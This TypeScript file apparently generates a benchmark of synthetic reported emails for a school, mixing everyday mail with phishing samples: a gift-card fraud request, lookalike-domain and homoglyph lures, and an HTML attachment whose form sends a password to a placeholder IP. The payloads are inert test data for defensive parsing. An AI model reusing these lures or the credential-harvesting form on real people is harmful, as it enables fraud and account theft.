import { createHash, randomBytes } from 'node:crypto';
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';
import { crc32 } from 'node:zlib';

/**
 * Synthetic reported emails for the email-analysis benchmark: a deterministic mix of everyday school mail and
 * phishing, in the shapes real ones take (multipart/alternative bodies, base64 attachments, encoded-word
 * headers, Microsoft 365 Authentication-Results), so the parser and every check get exercised.
 */

const FIRST = ['Jane', 'Bob', 'Priya', 'Tomasz', 'Aisha', 'Liam', 'Chloe', 'Mohammed', 'Grace', 'Oliver', 'Zoë', 'Kwame'];
const LAST = ['Smith', 'Jones', 'Patel', 'Nowak', 'Khan', 'Brown', 'Taylor', 'Williams', 'Evans', 'Okafor', 'Murphy', 'Wilson'];

export const BENCH_SCHOOL = {
  schoolName: 'Oakfield Primary School',
  schoolDomains: ['oakfield.sch.uk'],
  staffNames: Array.from({ length: 120 }, (_, i) => `${FIRST[i % FIRST.length]} ${LAST[(i * 7) % LAST.length]}`),
  ownAddresses: ['bob.jones@oakfield.sch.uk'],
};

function rng(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state * 1664525 + 1013904223) >>> 0;
    return state / 0x100000000;
  };
}

function encodedWord(value: string): string {
  // eslint-disable-next-line no-control-regex
  return /[^\x00-\x7f]/.test(value) ? `=?UTF-8?B?${Buffer.from(value).toString('base64')}?=` : `"${value}"`;
}

function b64(content: Buffer | string): string {
  return (typeof content === 'string' ? Buffer.from(content) : content).toString('base64').replace(/.{76}/g, '$&\r\n');
}

function authResults(pass: boolean, domain: string): string {
  const r = pass ? 'pass' : 'fail';
  return `Authentication-Results: spf=${r} (sender IP is 192.0.2.7)\r\n smtp.mailfrom=${domain}; dkim=${pass ? 'pass' : 'none'} (signature was verified)\r\n header.d=${domain};dmarc=${r} action=none\r\n header.from=${domain};compauth=${r} reason=${pass ? '100' : '000'}`;
}

function storedZip(entries: { name: string; data: Buffer }[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const { name, data } of entries) {
    const n = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(n.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt32LE(crc32(data), 16);
    dir.writeUInt32LE(data.length, 20);
    dir.writeUInt32LE(data.length, 24);
    dir.writeUInt16LE(n.length, 28);
    dir.writeUInt32LE(offset, 42);
    parts.push(local, n, data);
    central.push(dir, n);
    offset += 30 + n.length + data.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, cd, end]);
}

interface Shape {
  kind: string;
  from: string;
  replyTo?: string;
  subject: string;
  text: string;
  html: string;
  authPass: boolean;
  attachments: { name: string; type: string; data: Buffer }[];
}

const NEWSLETTER = (n: number) =>
  `<html><body><h1>Oakfield Primary: week ${n}</h1>` +
  Array.from({ length: 12 }, (_, i) => `<p>Item ${i}: the Year ${(i % 6) + 1} trip, clubs and lunches. <a href="https://www.oakfield.sch.uk/news/${n}-${i}">Read more</a></p>`).join('') +
  '<p><a href="https://www.parentpay.com/">Pay on ParentPay</a> · <a href="https://forms.office.com/r/abc">Club survey</a></p></body></html>';

function shape(i: number, random: () => number): Shape {
  const staff = BENCH_SCHOOL.staffNames[i % BENCH_SCHOOL.staffNames.length]!;
  const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n'), randomBytes(20_000 + Math.floor(random() * 40_000))]);
  switch (i % 10) {
    case 0:
      return { kind: 'newsletter', from: `"Oakfield Office" <office@oakfield.sch.uk>`, subject: `Newsletter week ${i}`, text: 'See the newsletter online.', html: NEWSLETTER(i), authPass: true, attachments: [] };
    case 1:
      return { kind: 'supplier-invoice', from: `"Acme Supplies" <accounts@acme-supplies.co.uk>`, subject: `Invoice ${1000 + i}`, text: `Please find invoice ${1000 + i} attached. Kind regards`, html: '', authPass: true, attachments: [{ name: `Invoice-${1000 + i}.pdf`, type: 'application/pdf', data: pdf }] };
    case 2:
      return {
        kind: 'gift-cards',
        from: `${encodedWord(staff)} <${staff.toLowerCase().replace(/\W+/g, '.')}.head@gmail.com>`,
        subject: 'Are you available?',
        text: `Hi, are you in school? I need you to get some Amazon gift cards for a staff reward today. Keep this between us. ${staff}`,
        html: '',
        authPass: true,
        attachments: [],
      };
    case 3:
      return {
        kind: 'credential-phish',
        from: `${encodedWord('Microsоft 365')} <no-reply@micros0ft-support.com>`,
        replyTo: 'it.helpdesk.365@outlook.com',
        subject: 'Your mailbox is almost full',
        text: '',
        html: `<p>Your mailbox is 98% full.</p><p><a href="https://mailbox-quota-${i}.web.app/?u=bob.jones%40oakfield.sch.uk">https://outlook.office.com/mail/storage</a></p><p><a href="https://bit.ly/3x${i}">Unsubscribe</a></p>`,
        authPass: false,
        attachments: [],
      };
    case 4:
      return {
        kind: 'html-attachment',
        from: `"DocuSign" <dse@docusign-notify.net>`,
        subject: 'Please review and sign: Staff contract',
        text: 'A document has been shared with you.',
        html: '',
        authPass: false,
        attachments: [{ name: 'Contract.pdf.html', type: 'text/html', data: Buffer.from(`<!DOCTYPE html><html><body><form action="http://192.0.2.${i % 250}/p.php"><input name="pw"></form></body></html>`) }],
      };
    case 5:
      return {
        kind: 'parent-photos',
        from: `"Sam Parent" <sam.parent${i}@btinternet.com>`,
        subject: 'Photos from sports day',
        text: 'Hello, here are the photos you asked for. Thanks!',
        html: '',
        authPass: true,
        attachments: [
          { name: 'IMG_0001.jpg', type: 'image/jpeg', data: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(60_000)]) },
          { name: 'IMG_0002.png', type: 'image/png', data: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(30_000)]) },
        ],
      };
    case 6:
      return {
        kind: 'macro-zip',
        from: `"HMRC" <refunds@hmrc-gov-refund.com>`,
        subject: 'Tax refund notice',
        text: 'You are due a tax refund. Open the attached form.',
        html: '',
        authPass: false,
        attachments: [
          { name: 'Refund.zip', type: 'application/zip', data: storedZip([{ name: '[Content_Types].xml', data: Buffer.from('<Types/>') }, { name: 'word/vbaProject.bin', data: randomBytes(4000) }, { name: 'Refund-form.exe', data: Buffer.from('MZ') }]) },
        ],
      };
    case 7:
      return {
        kind: 'unicode-brand',
        from: `${encodedWord('PаyPal Security')} <service@xn--pypal-4ve.com>`,
        subject: 'Уour аccount has been limited',
        text: 'Please confirm your details at https://xn--pypal-4ve.com/confirm within 24 hours.',
        html: '',
        authPass: false,
        attachments: [],
      };
    case 8:
      return {
        kind: 'meeting-invite',
        from: `${encodedWord(staff)} <${staff.toLowerCase().replace(/\W+/g, '.')}@oakfield.sch.uk>`,
        subject: 'Staff meeting',
        text: 'Staff meeting in the hall after school.',
        html: '<p>Staff meeting in the hall after school.</p>',
        authPass: true,
        attachments: [{ name: 'invite.ics', type: 'text/calendar', data: Buffer.from('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Staff meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n') }],
      };
    default:
      return {
        kind: 'la-update',
        from: `"Local Authority Education" <schools@county-council.gov.uk>`,
        subject: `Update for schools ${i}`,
        text: `Dear colleagues,\n\n${'Guidance for the spring term on admissions and attendance. '.repeat(40)}\nhttps://www.county-council.gov.uk/schools/guidance`,
        html: '',
        authPass: true,
        attachments: [{ name: 'Guidance.docx', type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', data: storedZip([{ name: '[Content_Types].xml', data: Buffer.from('<Types/>') }, { name: 'word/document.xml', data: randomBytes(8000) }]) }],
      };
  }
}

function render(s: Shape, i: number): Buffer {
  const domain = /@([^>]+)>?$/.exec(s.from)?.[1] ?? 'example.org';
  const head = [
    authResults(s.authPass, domain),
    `Return-Path: <bounce-${i}@${domain}>`,
    `From: ${s.from}`,
    `To: "Bob Jones" <bob.jones@oakfield.sch.uk>`,
    ...(s.replyTo ? [`Reply-To: ${s.replyTo}`] : []),
    `Subject: ${/[^\x20-\x7e]/.test(s.subject) ? `=?UTF-8?B?${Buffer.from(s.subject).toString('base64')}?=` : s.subject}`,
    'Date: Mon, 3 Feb 2025 09:00:00 +0000',
    `Message-ID: <bench-${i}@${domain}>`,
    'MIME-Version: 1.0',
  ];
  const textPart = (type: string, body: string) => `Content-Type: ${type}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(body)}`;
  let body =
    s.text && s.html
      ? `Content-Type: multipart/alternative; boundary="alt-${i}"\r\n\r\n--alt-${i}\r\n${textPart('text/plain', s.text)}\r\n--alt-${i}\r\n${textPart('text/html', s.html)}\r\n--alt-${i}--\r\n`
      : textPart(s.html ? 'text/html' : 'text/plain', s.html || s.text);
  if (s.attachments.length) {
    const parts = [body, ...s.attachments.map((a) => `Content-Type: ${a.type}; name="${a.name}"\r\nContent-Disposition: attachment; filename="${a.name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(a.data)}`)];
    body = `Content-Type: multipart/mixed; boundary="mix-${i}"\r\n\r\n${parts.map((p) => `--mix-${i}\r\n${p}\r\n`).join('')}--mix-${i}--\r\n`;
  }
  return Buffer.from(`${head.join('\r\n')}\r\n${body}`);
}

/** `count` messages cycling through ten kinds (four of them everyday school mail). */
export function generateMixedEmails(count: number, seed = 42): { kind: string; raw: Buffer }[] {
  const random = rng(seed);
  return Array.from({ length: count }, (_, i) => {
    const s = shape(i, random);
    return { kind: s.kind, raw: render(s, i) };
  });
}

/**
 * Writes a message of about `bytes` bytes to `path`: a short HTML body and one large base64 PDF, the usual shape of
 * an oversized report. Written in slices so the generator itself stays small. Returns the size and the
 * attachment's SHA-256, to check the analysis against.
 */
export async function writeLargeEmail(path: string, bytes: number): Promise<{ size: number; sha256: string }> {
  const head = Buffer.from(
    [
      authResults(true, 'acme-supplies.co.uk'),
      'From: "Acme Supplies" <accounts@acme-supplies.co.uk>',
      'To: "Bob Jones" <bob.jones@oakfield.sch.uk>',
      'Subject: Scanned documents',
      'Date: Mon, 3 Feb 2025 09:00:00 +0000',
      'Message-ID: <bench-large@acme-supplies.co.uk>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="big"',
      '',
      '--big',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>Scans attached. <a href="https://www.acme-supplies.co.uk/portal">Portal</a></p>',
      '--big',
      'Content-Type: application/pdf; name="Scans.pdf"',
      'Content-Disposition: attachment; filename="Scans.pdf"',
      'Content-Transfer-Encoding: base64',
      '',
      '',
    ].join('\r\n'),
  );
  const tail = Buffer.from('\r\n--big--\r\n');
  // 57 raw bytes make one 76-character base64 line plus CRLF (78 bytes).
  const lines = Math.floor((bytes - head.length - tail.length) / 78);
  const out = createWriteStream(path);
  const hash = createHash('sha256');
  out.write(head);
  let size = head.length;
  const linesPerSlice = 10_000;
  for (let done = 0; done < lines; done += linesPerSlice) {
    const n = Math.min(linesPerSlice, lines - done);
    const raw = randomBytes(n * 57);
    if (done === 0) raw.write('%PDF-1.7\n', 0, 'latin1');
    hash.update(raw);
    const text = raw.toString('base64').replace(/.{76}/g, '$&\r\n');
    const chunk = Buffer.from(done + n >= lines ? text.replace(/\r\n$/, '') : text);
    size += chunk.length;
    if (!out.write(chunk)) await once(out, 'drain');
  }
  out.write(tail);
  size += tail.length;
  out.end();
  await once(out, 'finish');
  return { size, sha256: hash.digest('hex') };
}
